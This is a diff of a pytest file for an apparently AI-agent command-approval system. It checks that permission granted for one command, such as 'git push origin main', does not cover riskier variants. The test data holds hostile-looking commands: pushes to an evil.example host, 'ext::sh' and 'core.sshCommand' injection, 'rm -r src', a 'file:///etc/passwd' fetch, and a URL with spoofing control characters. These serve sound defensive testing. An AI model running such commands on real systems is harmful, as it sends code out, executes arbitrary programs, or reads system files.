@@ -37,13 +37,70 @@ def test_no_mode_lets_a_person_allow_what_is_denied(mode: ApprovalMode) -> None:
     ("line", "words"),
     [
         ("git push origin main", "git push"),
-        ("make", "make"),
-        ("pytest -q tests/x.py", "pytest"),
         ("  npm  test ", "npm test"),
     ],
 )
 def test_a_plain_command_is_of_the_kind_of_its_first_words(line: str, words: str) -> None:
     assert kind_of("execute", {"command": line}, "publish") == {"tool": "execute", "rule": "publish", "words": words}
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        "git push --force origin main",
+        "git push -f",
+        "git push origin +main",
+        "git push origin :main",
+        "git push origin main:release",
+        "git push https://evil.example/repo main",
+        "git push ext::sh main",
+        "git push user@evil.example main",
+        "git push --receive-pack=x origin main",
+        "git -c core.sshCommand=x push origin main",
+        "git -C other push origin main",
+        "git --git-dir=x push",
+        "git",
+    ],
+)
+def test_an_answer_covers_no_call_with_other_options_addresses_or_settings(other: str) -> None:
+    granted = kind_of("execute", {"command": "git push origin main"}, "publish")
+
+    assert granted == kind_of("execute", {"command": "git push origin draft"}, "publish")
+    assert granted != kind_of("execute", {"command": other}, "publish")
+
+
+@pytest.mark.parametrize(
+    ("line", "other"),
+    [
+        ("git -c a=b push", "git -c a=c push"),
+        ("git -C here status", "git -C here reset"),
+        ("bash run.sh", "bash other.sh"),
+        ("python -m pytest", "python -m http.server"),
+        ("make", "make evil"),
+        ("rm -r build", "rm -r src"),
+        ("git push --force", "git push --mirror"),
+    ],
+)
+def test_an_answer_to_one_line_does_not_cover_the_other(line: str, other: str) -> None:
+    one, two = (kind_of("execute", {"command": each}, "no-sandbox") for each in (line, other))
+
+    assert one is not None
+    assert one != two
+
+
+@pytest.mark.parametrize(
+    ("line", "text"),
+    [
+        ("git push origin main", "commands that begin with 'git push', with no other options"),
+        ("git push --force", "commands that begin with 'git push' and have '--force', with no other options"),
+        ("pytest -q  tests", "the command 'pytest -q tests'"),
+    ],
+)
+def test_a_person_reads_what_an_answer_covers(line: str, text: str) -> None:
+    kind = kind_of("execute", {"command": line}, "publish")
+
+    assert kind is not None
+    assert describe_kind(kind) == text
 
 
 @pytest.mark.parametrize(
@@ -97,3 +154,4 @@ def test_an_answer_about_a_page_covers_its_host_and_no_other(url: str, words: st
 def test_an_address_that_is_none_stands_alone() -> None:
     assert kind_of("web_fetch", {"url": "file:///etc/passwd"}, "network") is None
     assert kind_of("web_fetch", {}, "network") is None
+    assert kind_of("web_fetch", {"url": "https://a\x1b[2J\u202eb.example/"}, "network") is None
